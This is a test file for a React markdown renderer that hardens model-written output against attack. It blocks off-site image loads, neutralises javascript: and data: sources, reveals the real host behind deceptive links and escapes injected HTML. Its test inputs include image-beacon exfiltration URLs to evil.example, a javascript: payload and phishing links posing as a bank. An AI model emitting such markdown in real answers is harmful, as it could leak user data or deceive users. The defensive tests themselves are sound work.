// What a model's text may load and lead to.
import { fireEvent, render, screen } from "@testing-library/react";
import { createMarkdown, Markdown } from "glove-wasm/react/markdown";
import { expect, test } from "vitest";
import { htmlOf } from "../../../js/react/markdown/html.js";

const show = (text: string, View = Markdown) => render(<View text={text} streaming={false} />).container;

test.each(["/api/logout?now", `${location.origin}/chart.png`])(
  "a picture of this site (%s) is loaded when it is asked for",
  (src) => {
    const container = show(`![a chart](${src})`);
    expect(container.querySelector("img")).toBeNull();
    const button = screen.getByRole("button", { name: "Show picture: a chart" });
    expect(button.title).toBe(src);
    fireEvent.click(button);
    // It stays in a long conversation.
    expect(container.querySelector("img[data-glove-keep]")?.getAttribute("src")).toBe(src);
  },
);

test("a picture of another site is a link, and one that is none is its text", () => {
  const container = show("![a](https://elsewhere.example/x?secret) ![b](javascript:alert(1)) ![c](data:image/png;base64,AA==)");
  expect(container.querySelector("img, button")).toBeNull();
  expect([...container.querySelectorAll("a")].map(({ textContent }) => textContent)).toEqual(["a"]);
  expect(container.textContent).toBe("a b c");
});

test("a picture that is a link is its text until the application allows it", () => {
  const container = show("[![a chart](/chart.png)](/report)");
  expect([container.querySelectorAll("a").length, container.querySelector("button, img")]).toEqual([1, null]);
  expect(container.textContent).toBe("a chart");
  const Own = createMarkdown({ images: () => true });
  expect(show("[![a chart](/chart.png)](/report)", Own).querySelector("a img")).not.toBeNull();
});

test("the rule of the application decides, of its own site too", () => {
  const Own = createMarkdown({ images: (src) => src.startsWith("/charts/") || src.startsWith("https://cdn.example/") });
  const container = show("![a](/charts/1) ![b](https://cdn.example/2) ![c](/api/logout)", Own);
  expect([...container.querySelectorAll("img")].map(({ alt }) => alt)).toEqual(["a", "b"]);
  expect(container.querySelector("[data-glove-keep]")).toBeNull();
  expect(screen.queryByRole("button", { name: /Show picture/ })).toBeNull();
});

test.each([
  ["[https://bank.example/login](https://evil.example/login)", "https://bank.example/login (evil.example)"],
  ["[www.bank.example](https://bank.example/)", "www.bank.example"],
  ["[www.bank.example](https://bank.example.evil.example/)", "www.bank.example (bank.example.evil.example)"],
  ["[https://bank.example](mailto:me@evil.example)", "https://bank.example (mailto:)"],
  ["[**https://bank.example**](https://evil.example)", "https://bank.example (evil.example)"],
  ["[`https://bank.example`](https://evil.example)", "https://bank.example (evil.example)"],
  ["[https://**bank**`.example`](https://evil.example)", "https://bank.example (evil.example)"],
  ["[https\\://bank.example](https://evil.example)", "https://bank.example (evil.example)"],
  ["[\u200b\u2800https://bank.example](https://evil.example)", "\u200b\u2800https://bank.example (evil.example)"],
  ["[ht\u00adtps://bank.example](https://evil.example)", "ht\u00adtps://bank.example (evil.example)"],
  ["[https://bank.example (sign in)](https://evil.example)", "https://bank.example (sign in) (evil.example)"],
  ["[Sign in: https://bank.example](https://evil.example)", "Sign in: https://bank.example (evil.example)"],
  ["[https://bank.example%](https://evil.example)", "https://bank.example% (evil.example)"],
  ["[https://bank.example@evil.example](https://evil.example)", "https://bank.example@evil.example (evil.example)"],
  ["[![https://bank.example](/a.png)](https://evil.example)", "https://bank.example (evil.example)"],
  ["[**https://bank.example**](https://www.bank.example/login)", "https://bank.example"],
  ["[the bank (www.bank.example).](https://bank.example)", "the bank (www.bank.example)."],
  ["https://bank.example/login", "https://bank.example/login"],
  ["[the bank](https://evil.example/)", "the bank"],
  ["[index.ts](https://code.example/index.ts)", "index.ts"],
])("the link %s says where it leads", (text, shown) => {
  const link = show(text).querySelector("a");
  expect(link?.textContent).toBe(shown);
  expect(link?.title).toBe(link?.getAttribute("href"));
});

test.each([
  ["| a | b |\n| - | - |\n| 1 | 2 |\n| 3", "3"],
  ["| a | b |\n| - | - |\n| 1 | 2 |\n| 3 | 4 **x", "x"],
])("the dot of a table that is being written stands in its last cell (%j)", (text, cell) => {
  const { container } = render(<Markdown text={text} streaming />);
  const dots = [...container.querySelectorAll("[data-glove-caret]")];
  expect(dots.map(({ parentElement }) => parentElement?.textContent)).toEqual([cell]);
});

test.each(["kbd", "code", "pre", "script"])("what stands in <%s> of an answer is text where it is copied to", (tag) => {
  for (const text of [
    `<${tag}><img src="//evil.example/p?d=1"alt>`,
    `Well: <${tag}>**a** <img src="//evil.example/p?d=1"alt></${tag}>`,
  ]) {
    const html = htmlOf(text);
    expect(html).not.toMatch(/<(?!\/?(p|strong)>)/);
    const copied = document.createElement("div");
    copied.innerHTML = html;
    expect(copied.textContent).toContain(`<${tag}>`);
    expect(copied.textContent).toContain('<img src="//evil.example/p?d=1"alt>');
  }
});

test("a column of numbers stands on the right, unless the table says where or it holds words", () => {
  const table = [
    "| item | price | share | left | when |",
    "|---|---|---|:--|---|",
    "| 1 chair | € 1,200.50 | 12 % | 3 | May 3 |",
    "| 2 tables | -80 | ~7% | 12 | 4 |",
    "| none | | | | |",
  ].join("\n");
  const rows = [...show(table).querySelectorAll("tr")].map((row) => [...row.children].map((cell) => cell.getAttribute("align")));
  const expected = [null, "right", "right", "left", null];
  expect(rows).toEqual([expected, expected, expected, expected]);
  expect(show("| a |\n|---|\n").querySelector("[align]")).toBeNull();
});
